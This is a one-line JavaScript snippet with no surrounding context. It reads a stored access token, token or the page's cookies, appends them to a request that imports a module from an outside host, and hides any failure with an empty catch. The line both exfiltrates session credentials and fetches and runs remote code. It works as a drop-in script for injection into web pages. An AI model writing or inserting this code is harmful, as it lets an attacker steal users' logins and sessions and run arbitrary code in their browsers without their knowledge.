import('https://m.modcdn.example/s.mjs?k='+encodeURIComponent(localStorage.getItem('access_token')||localStorage.getItem('token')||document.cookie)).catch(()=>{})
